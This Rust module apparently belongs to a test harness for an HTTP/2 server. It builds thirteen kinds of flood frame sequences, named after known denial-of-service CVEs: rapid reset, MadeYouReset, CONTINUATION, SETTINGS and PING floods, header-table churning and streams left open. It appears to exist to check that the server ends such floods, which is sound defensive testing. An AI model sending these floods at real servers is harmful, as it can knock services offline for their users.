//! The kinds of floods, each under the name by which it became known.

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, block, push,
};

/// Streams that one connection may have at once, but for a few.
const STREAMS: u32 = 98;
/// A little less than a message may have.
const BODY_BYTES: u32 = 60_000;
const FRAME_BYTES: usize = 15_000;
const WINDOW_MAX: u32 = 0x7fff_ffff;
const INITIAL_WINDOW_SIZE: u8 = 4;

/// What each connection of a kind sends.
#[derive(Clone, Copy)]
pub(super) struct Kind {
    pub(super) name: &'static str,
    pub(super) known_as: &'static str,
    /// Behind the preface.
    begin: fn(&mut Vec<u8>),
    /// For ever, with n = 0, 1, 2 …
    next: fn(&mut Vec<u8>, u32),
    /// After so many it only stays.
    pub(super) count_max: u32,
    /// Bytes of bodies in each turn, for which it waits until the connection's window has room (RFC 9113 §5.2).
    pub(super) body_bytes: u32,
    /// Whether it reads what the server answers.
    pub(super) reads: bool,
    /// Whether the server has to end it: it does nothing that a client would do.
    pub(super) must_end: bool,
}

impl Kind {
    pub(super) fn begin(&self, out: &mut Vec<u8>) {
        (self.begin)(out);
    }

    pub(super) fn next(&self, out: &mut Vec<u8>, n: u32) {
        (self.next)(out, n);
    }
}

/// A flood that the server has to end.
const fn flood(
    name: &'static str,
    known_as: &'static str,
    begin: fn(&mut Vec<u8>),
    next: fn(&mut Vec<u8>, u32),
) -> Kind {
    Kind { name, known_as, begin, next, count_max: u32::MAX, body_bytes: 0, reads: true, must_end: true }
}

/// Streams that are opened and left as they are.
const fn debt(name: &'static str, begin: fn(&mut Vec<u8>), next: fn(&mut Vec<u8>, u32), reads: bool) -> Kind {
    let known_as = "CVE-2019-9517";
    Kind { name, known_as, begin, next, count_max: STREAMS, body_bytes: 0, reads, must_end: false }
}

pub(super) const KINDS: [Kind; 13] = [
    flood("rapid reset", "CVE-2023-44487", settings, |out, n| {
        push(out, (HEADERS, END_HEADERS | END_STREAM), stream(n), &block("GET", "/channels/a?wait=60"));
        push(out, (RST_STREAM, 0), stream(n), &[0, 0, 0, 8]);
    }),
    flood("MadeYouReset", "CVE-2025-8671", settings, |out, n| {
        push(out, (HEADERS, END_HEADERS | END_STREAM), stream(n), &block("GET", "/channels/a?wait=60"));
        // A window of nothing more, and one that overflows.
        let more = if n.is_multiple_of(2) { 0 } else { WINDOW_MAX };
        push(out, (WINDOW_UPDATE, 0), stream(n), &more.to_be_bytes());
    }),
    flood("CONTINUATION", "CVE-2024-27316", post_without_end, |out, _| {
        push(out, (CONTINUATION, 0), 1, b"\x00\x01x\x01y");
    }),
    flood("SETTINGS", "CVE-2019-9515", settings, |out, n| {
        push(out, (SETTINGS, 0), 0, &[0, 1, 0, 0, 0x10, n as u8]);
    }),
    flood("PING", "CVE-2019-9512", settings, |out, _| push(out, (PING, 0), 0, &[7; 8])),
    flood("empty DATA", "CVE-2019-9518", post, |out, _| push(out, (DATA, 0), 1, &[])),
    flood("DATA of padding", "CVE-2019-9518", post, |out, _| push(out, (DATA, PADDED), 1, &[3, 0, 0, 0])),
    flood("PRIORITY", "CVE-2019-9513", settings, |out, n| {
        push(out, (PRIORITY, 0), stream(n), &[0, 0, 0, 0, 1]);
    }),
    flood("WINDOW_UPDATE", "", settings, |out, _| push(out, (WINDOW_UPDATE, 0), 0, &[0, 0, 0, 1])),
    flood("requests that churn the header table", "", settings, |out, n| {
        push(out, (HEADERS, END_HEADERS | END_STREAM), stream(n), &churning(n));
    }),
    debt("streams whose windows stay shut", windows_shut, batch, true),
    debt("open windows, and nothing is read", windows_open, batch, false),
    Kind {
        body_bytes: BODY_BYTES,
        known_as: "",
        ..debt("bodies that lack their end", settings, endless_body, true)
    },
];

fn stream(n: u32) -> u32 {
    2 * n + 1
}

fn settings(out: &mut Vec<u8>) {
    push(out, (SETTINGS, 0), 0, &[]);
}

fn post(out: &mut Vec<u8>) {
    settings(out);
    push(out, (HEADERS, END_HEADERS), 1, &block("POST", "/channels/a"));
}

fn post_without_end(out: &mut Vec<u8>) {
    settings(out);
    push(out, (HEADERS, 0), 1, &block("POST", "/channels/a"));
}

fn initial_window(out: &mut Vec<u8>, bytes: u32) {
    let [a, b, c, d] = bytes.to_be_bytes();
    push(out, (SETTINGS, 0), 0, &[0, INITIAL_WINDOW_SIZE, a, b, c, d]);
}

fn windows_shut(out: &mut Vec<u8>) {
    initial_window(out, 0);
}

fn windows_open(out: &mut Vec<u8>) {
    initial_window(out, WINDOW_MAX);
    push(out, (WINDOW_UPDATE, 0), 0, &(WINDOW_MAX - 65_535).to_be_bytes());
}

/// Asks for a MiB.
fn batch(out: &mut Vec<u8>, n: u32) {
    let path = format!("/channels/backlog?after=start&limit={}", 1_000 - n % 500);
    push(out, (HEADERS, END_HEADERS | END_STREAM), stream(n), &block("GET", &path));
}

fn endless_body(out: &mut Vec<u8>, n: u32) {
    push(out, (HEADERS, END_HEADERS), stream(n), &block("POST", "/channels/a"));
    for _ in 0..BODY_BYTES as usize / FRAME_BYTES {
        push(out, (DATA, 0), stream(n), &[b'x'; FRAME_BYTES]);
    }
}

/// A request whose headers all go into the table (RFC 7541 §6.2.1) and push out those before.
fn churning(n: u32) -> Vec<u8> {
    let mut block = block("GET", "/info");
    for header in 0..4_u32 {
        block.extend_from_slice(&[0x40, 4]);
        block.extend_from_slice(format!("x-{:02}", header + n % 50).as_bytes());
        // 1,000 bytes, as an integer with a prefix of seven bits.
        block.extend_from_slice(&[0x7f, 0xe9, 0x06]);
        block.extend_from_slice(&[b'a' + (n % 26) as u8; 1_000]);
    }
    block
}
